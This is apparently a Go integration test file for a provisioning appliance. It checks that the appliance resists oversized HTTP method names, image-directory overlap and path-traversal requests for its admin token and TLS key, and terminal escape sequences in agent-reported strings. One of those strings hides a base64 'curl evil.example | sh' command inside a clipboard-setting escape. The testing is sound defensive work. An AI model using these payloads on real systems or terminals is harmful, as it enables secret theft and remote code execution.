package test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/foundry-appliance/foundry/store"
)

// Attacks on what the appliance serves over HTTP and shows the
// administrator (issue 9, items 5-7 and the certificate of item 8), each
// run against the real `foundry serve`: method names that would grow the
// metrics without bound, image directories and paths that would publish
// data_dir, agent strings that would drive the administrator's terminal,
// and the self-signed certificate a booting machine must be able to verify.

// The image-serving tests get a bridge of their own and an appliance with
// no segments: HTTP is all they need.
const (
	httpSecAddr = "10.65.0.1"
	httpSecBase = "http://" + httpSecAddr + ":8080"
)

func httpSecConfig(advertise, tlsKeys string) string {
	return fmt.Sprintf("http:\n  listen: \":8080\"\n  advertise: %q\n%stftp:\n  listen: \":69\"\n", advertise, tlsKeys)
}

// methodRSSLimit bounds what a second batch of 60 requests with 1 MB
// method names may add to the appliance's resident size. Each request line
// is read into memory before it is refused, so the first batch grows it
// by garbage the heap has not yet returned (measured: 27 to 48 MiB, and
// once 64.7 MiB under a loaded `make test`, which failed the bound this
// had on the first batch); the second batch's garbage takes the place the
// first one's left. When the metrics kept every name (counter and
// histogram) each batch added about 120 MiB, for good, and /metrics
// answered with 900 MB.
const methodRSSLimit = 32 << 10 // KiB

// Two batches of 60 requests whose method is a unique 1 MB token: the
// appliance answers each (405), /metrics stays as small as it was and
// names no such method, and the second batch grows the resident size by
// less than methodRSSLimit.
func TestSecurityMetricsMethodNames(t *testing.T) {
	a := secAppliance(t, nil)
	pid := a.cmd.Process.Pid
	scrape := func() string {
		t.Helper()
		code, body := get(t, a.base+"/metrics")
		if code != 200 {
			t.Fatalf("/metrics: %d", code)
		}
		return body
	}
	get(t, a.base+"/healthz")
	before := scrape()
	rssBefore := vmKiB(t, pid, "VmRSS")

	method := strings.Repeat("M", 1<<20-64)
	batch := func(round int) {
		t.Helper()
		for i := range 60 {
			status := rawRequest(t, fmt.Sprintf("%s%d%02d /healthz HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", method, round, i, "10.63.0.1"))
			if status != http.StatusMethodNotAllowed {
				// Anything else (431, 400) means the attack was not performed.
				t.Fatalf("request %d of batch %d with a 1 MB method: %d, want 405 (the request read and routed)", i, round, status)
			}
		}
	}
	batch(1)
	rssFirst := vmKiB(t, pid, "VmRSS")
	batch(2)
	after := scrape()
	rssAfter := vmKiB(t, pid, "VmRSS")
	t.Logf("VmRSS %d KiB before, %d KiB after 60 1-MB method names (+%d KiB), %d KiB after 60 more (+%d KiB); /metrics %d bytes before, %d after",
		rssBefore, rssFirst, rssFirst-rssBefore, rssAfter, rssAfter-rssFirst, len(before), len(after))

	if strings.Contains(after, "MMMMMMMM") {
		t.Error("/metrics carries a request's method name")
	}
	if len(after) > len(before)+16<<10 {
		t.Errorf("/metrics grew from %d to %d bytes", len(before), len(after))
	}
	if !strings.Contains(after, `method="other"`) {
		t.Error(`the requests are not counted as method="other"`)
	}
	if rssAfter-rssFirst > methodRSSLimit {
		t.Errorf("the second batch grew VmRSS by %d KiB, the limit is %d KiB", rssAfter-rssFirst, methodRSSLimit)
	}
}

// rawRequest writes req as given (no client cleans or checks it) over a
// connection of its own and returns the response status.
func rawRequest(t *testing.T, req string) int {
	t.Helper()
	conn, err := net.DialTimeout("tcp", "10.63.0.1:8080", 10*time.Second)
	must(t, err)
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(30 * time.Second))
	if _, err := io.WriteString(conn, req); err != nil {
		t.Fatalf("write request: %v", err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("read response: %v", err)
	}
	resp.Body.Close()
	return resp.StatusCode
}

// check-config and serve refuse every image_dir that would publish
// data_dir (the same, inside it, containing it, by name or through a
// symlink) with one message naming image_dir; serve refuses before it
// writes anything.
func TestSecurityImageDirOverlapRefused(t *testing.T) {
	top := t.TempDir()
	data := filepath.Join(top, "data")
	must(t, os.MkdirAll(filepath.Join(data, "tls"), 0o700))
	must(t, os.Symlink(data, filepath.Join(top, "data-link")))
	for _, tc := range []struct{ name, images string }{
		{"image_dir is data_dir", data},
		{"image_dir is data_dir, unclean", data + "/tls/../"},
		{"image_dir is data_dir through a symlink", filepath.Join(top, "data-link")},
		{"image_dir inside data_dir", filepath.Join(data, "tls")},
		{"data_dir inside image_dir", top},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg := filepath.Join(top, "foundry.yaml")
			must(t, os.WriteFile(cfg, []byte(fmt.Sprintf("data_dir: %s\nimage_dir: %s\n%s", data, tc.images,
				httpSecConfig(httpSecBase, ""))), 0o644))
			check, checkCode := runFoundry(t, "check-config", "--config", cfg)
			serve, serveCode := runFoundry(t, "serve", "--config", cfg)
			if checkCode == 0 || serveCode == 0 {
				t.Fatalf("accepted: check-config exit %d, serve exit %d\n%s\n%s", checkCode, serveCode, check, serve)
			}
			if check != serve || !strings.Contains(check, "\n  image_dir: ") || !strings.Contains(check, "admin token") {
				t.Fatalf("check-config and serve differ or do not name image_dir:\ncheck-config: %s\nserve: %s", check, serve)
			}
			if _, err := os.Stat(filepath.Join(data, "db")); !errors.Is(err, os.ErrNotExist) {
				t.Fatalf("serve opened its database before refusing: %v", err)
			}
		})
	}
}

// runFoundry runs the binary and returns its output and exit code.
func runFoundry(t *testing.T, args ...string) (string, int) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, foundryBin, args...)
	cmd.Env = append(os.Environ(), "FOUNDRY_ADMIN_TOKEN="+adminToken)
	out, err := cmd.CombinedOutput()
	var ee *exec.ExitError
	switch {
	case err == nil:
		return string(out), 0
	case errors.As(err, &ee) && ctx.Err() == nil:
		return string(out), ee.ExitCode()
	}
	t.Fatalf("foundry %v: %v\n%s", args, err, out)
	return "", 0
}

// With image_dir beside data_dir, no request reaches data_dir or a
// dotfile: not by "..", encoded or not, nor through symlinks placed in
// the image directory (relative, absolute, to a file or a directory).
func TestSecurityImagePathEscapes(t *testing.T) {
	newLab(t, "shp0", httpSecAddr+"/24")
	top := t.TempDir()
	data, images := filepath.Join(top, "data"), filepath.Join(top, "images")
	const secret = "SECRET-3c5e7a"
	must(t, os.MkdirAll(filepath.Join(data, "tls"), 0o700))
	must(t, os.MkdirAll(filepath.Join(images, "discovery"), 0o755))
	must(t, os.MkdirAll(filepath.Join(images, "ipxe"), 0o755))
	must(t, os.MkdirAll(filepath.Join(images, ".git"), 0o755))
	for path, text := range map[string]string{
		filepath.Join(data, "admin-token"):            secret,
		filepath.Join(data, "tls", "key.pem"):         secret,
		filepath.Join(images, "discovery", "vmlinuz"): "kernel",
		filepath.Join(images, ".htpasswd"):            secret,
		filepath.Join(images, ".git", "config"):       secret,
	} {
		must(t, os.WriteFile(path, []byte(text), 0o600))
	}
	for link, target := range map[string]string{
		"token":   "../data/admin-token",
		"datadir": "../data",
		"abs":     data,
		"key":     filepath.Join(data, "tls", "key.pem"),
	} {
		must(t, os.Symlink(target, filepath.Join(images, link)))
	}
	a := startAppliance(t, data, images, httpSecConfig(httpSecBase, ""), httpSecBase)

	if code, body := get(t, a.base+"/images/discovery/vmlinuz"); code != 200 || body != "kernel" {
		t.Fatalf("a legal file: %d %q", code, body)
	}
	noRedirect := &http.Client{Timeout: 10 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	for _, path := range []string{
		"/images/../data/admin-token",
		"/images/%2e%2e/data/admin-token",
		"/images/..%2fdata%2fadmin-token",
		"/images/discovery/../../data/tls/key.pem",
		"/images/token",
		"/images/datadir/admin-token",
		"/images/datadir/tls/key.pem",
		"/images/abs/admin-token",
		"/images/key",
		"/images/.htpasswd",
		"/images/.git/config",
		"/images/%2egit/config",
	} {
		t.Run(path, func(t *testing.T) {
			req, err := http.NewRequest("GET", a.base+path, nil)
			must(t, err)
			req.URL.Opaque = path // sent as written, not cleaned by the client
			resp, err := noRedirect.Do(req)
			must(t, err)
			body, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if strings.Contains(string(body), secret) {
				t.Fatalf("served the secret: %d", resp.StatusCode)
			}
			switch loc := resp.Header.Get("Location"); {
			case resp.StatusCode == http.StatusNotFound:
			case resp.StatusCode/100 == 3 && !strings.HasPrefix(loc, "/images/"):
				// ServeMux cleans ".." by redirecting out of /images/:
				// whatever answers there must not be the file either.
				code, body := get(t, a.base+loc)
				if strings.Contains(body, secret) || (code != http.StatusNotFound && code != http.StatusOK) {
					t.Fatalf("redirected to %s: %d %q", loc, code, body)
				}
			default:
				t.Fatalf("%d (Location %q), want 404", resp.StatusCode, loc)
			}
		})
	}
}

// hostile holds what a compromised discovery agent would report to take
// over the administrator's terminal: set the clipboard (OSC 52), clear the
// screen, retitle the window, and the same through C1 and bidi controls.
const (
	hostileVendor  = "Evil\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07Corp"
	hostileSerial  = "SN\x1b[2J\x1b[H\u009b2J\u202e1"
	hostileMessage = "disk write failed\x1b]0;you have been owned\x07\x1b[2J"
)

// The CLI, run against the real appliance, prints machines whose agent
// reported hostile vendor, serial and messages without a raw control
// character: they are shown escaped. -o json still carries them exactly.
func TestSecurityCLIEscapesAgentStrings(t *testing.T) {
	const inventoried, failed = "52:54:00:5b:00:01", "52:54:00:5b:00:02"
	inv, err := json.Marshal(map[string]any{"schema_version": 1,
		"system": map[string]string{"vendor": hostileVendor, "product": "Box\x1b[31m", "serial": hostileSerial}})
	must(t, err)
	a := secAppliance(t, func(db *store.DB) {
		seedMachine(t, db, store.Machine{MAC: inventoried, State: store.StateInventoried, Inventory: inv})
		seedMachine(t, db, store.Machine{MAC: failed, State: store.StateFailed, Hostname: "node-02", Inventory: inv})
		// The failure report as the agent makes it: message and audit.
		_, err := db.UpdateMachine(failed, store.Audit{Actor: "agent:" + failed, Action: "report", Detail: hostileMessage},
			func(m *store.Machine) error { m.Message = hostileMessage; return nil })
		must(t, err)
	})
	for _, args := range [][]string{
		{"machines", "ls"},
		{"machines", "show", inventoried},
		{"machines", "show", failed},
		{"audit", "--mac", failed},
	} {
		out, code := cli(t, a, adminToken, args...)
		if code != 0 {
			t.Fatalf("foundry %v: exit %d\n%s", args, code, out)
		}
		if i := strings.IndexFunc(out, terminalControl); i >= 0 || !utf8.ValidString(out) {
			t.Errorf("foundry %v prints a raw control character (at %d):\n%q", args, i, out)
		}
		if !strings.Contains(out, `\x1b`) {
			t.Errorf("foundry %v does not show the escapes:\n%s", args, out)
		}
	}
	out, code := cli(t, a, adminToken, "machines", "show", failed, "-o", "json")
	var m struct {
		Message string
		Summary struct{ Vendor, Serial string }
	}
	if err := json.Unmarshal([]byte(out), &m); code != 0 || err != nil {
		t.Fatalf("show -o json: exit %d, %v\n%s", code, err, out)
	}
	if m.Message != hostileMessage || m.Summary.Vendor != hostileVendor || m.Summary.Serial != hostileSerial {
		t.Errorf("-o json does not carry the values exactly: %+q", m)
	}
	if bytes.IndexByte([]byte(out), 0x1b) >= 0 {
		t.Error("-o json carries a raw ESC")
	}
}

// terminalControl is what a terminal acts on: C0 but newline, DEL, C1 and
// the bidi controls.
func terminalControl(r rune) bool {
	return r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r))
}

// With http.tls.self_signed, a certificate kept from another address is
// replaced at start, and the served certificate verifies for the
// advertised address with the appliance's own certificate file as the only
// root; a second start keeps it.
func TestSecuritySelfSignedNamesAdvertise(t *testing.T) {
	newLab(t, "shp0", httpSecAddr+"/24")
	data := t.TempDir()
	tlsDir := filepath.Join(data, "tls")
	must(t, os.MkdirAll(tlsDir, 0o700))
	writeCert(t, tlsDir, "old.example") // what a first start under another address left
	base := "https://" + httpSecAddr + ":8080"
	// startAppliance waits for plain HTTP: this one is started by waitTLS.
	cfg := fmt.Sprintf("data_dir: %s\nimage_dir: %s\nlog_level: debug\n%s", data, imageDir(t),
		httpSecConfig(base, "  tls:\n    self_signed: true\n"))
	a := &appliance{t: t, dir: data, config: filepath.Join(data, "foundry.yaml"), base: base}
	must(t, os.WriteFile(a.config, []byte(cfg), 0o644))
	t.Cleanup(a.stop)

	served := waitTLS(t, a, base)
	if _, ok := a.waitLog(time.Second, "regenerated the self-signed tls certificate", "does not name "+httpSecAddr); !ok {
		t.Errorf("no log of the regeneration:\n%s", a.logs())
	}
	first, err := os.ReadFile(filepath.Join(tlsDir, "cert.pem"))
	must(t, err)
	if !bytes.Contains(first, pemOf(served)) {
		t.Error("the served certificate is not the one in data_dir/tls/cert.pem")
	}

	a.stop()
	waitTLS(t, a, base)
	again, err := os.ReadFile(filepath.Join(tlsDir, "cert.pem"))
	must(t, err)
	if !bytes.Equal(first, again) {
		t.Error("a certificate that names the advertised address was replaced on restart")
	}
}

// waitTLS starts a's process if it is not running and waits until it
// answers /healthz over HTTPS verified for the advertised address, with
// data_dir/tls/cert.pem as the only root. It returns the served leaf.
func waitTLS(t *testing.T, a *appliance, base string) *x509.Certificate {
	t.Helper()
	running := a.cmd != nil
	if running {
		select {
		case <-a.stopped:
			running = false
		default:
		}
	}
	if !running {
		a.cmd = exec.Command(foundryBin, "serve", "--config", a.config)
		a.cmd.Env = append(os.Environ(), "FOUNDRY_ADMIN_TOKEN="+adminToken)
		a.cmd.Stdout, a.cmd.Stderr = &a.log, &a.log
		must(t, a.cmd.Start())
		a.stopped = make(chan struct{})
		go func() { a.cmd.Wait(); close(a.stopped) }()
	}
	var lastErr error
	for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		select {
		case <-a.stopped:
			t.Fatalf("foundry serve exited:\n%s", a.logs())
		default:
		}
		pemBytes, err := os.ReadFile(filepath.Join(a.dir, "tls", "cert.pem"))
		if err != nil {
			lastErr = err
			continue
		}
		roots := x509.NewCertPool()
		roots.AppendCertsFromPEM(pemBytes)
		c := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: roots}}}
		resp, err := c.Get(base + "/healthz")
		if err != nil {
			lastErr = err
			continue
		}
		resp.Body.Close()
		if resp.StatusCode == 200 {
			return resp.TLS.PeerCertificates[0]
		}
	}
	t.Fatalf("no verified HTTPS answer for %s: %v\n%s", base, lastErr, a.logs())
	return nil
}

// writeCert writes a self-signed certificate and key for host into dir
// under the names the appliance keeps its own.
func writeCert(t *testing.T, dir, host string) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	must(t, err)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), DNSNames: []string{host},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}, BasicConstraintsValid: true}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	must(t, err)
	keyDER, err := x509.MarshalPKCS8PrivateKey(key)
	must(t, err)
	must(t, os.WriteFile(filepath.Join(dir, "cert.pem"), pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o644))
	must(t, os.WriteFile(filepath.Join(dir, "key.pem"), pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: keyDER}), 0o600))
}

func pemOf(c *x509.Certificate) []byte {
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: c.Raw})
}
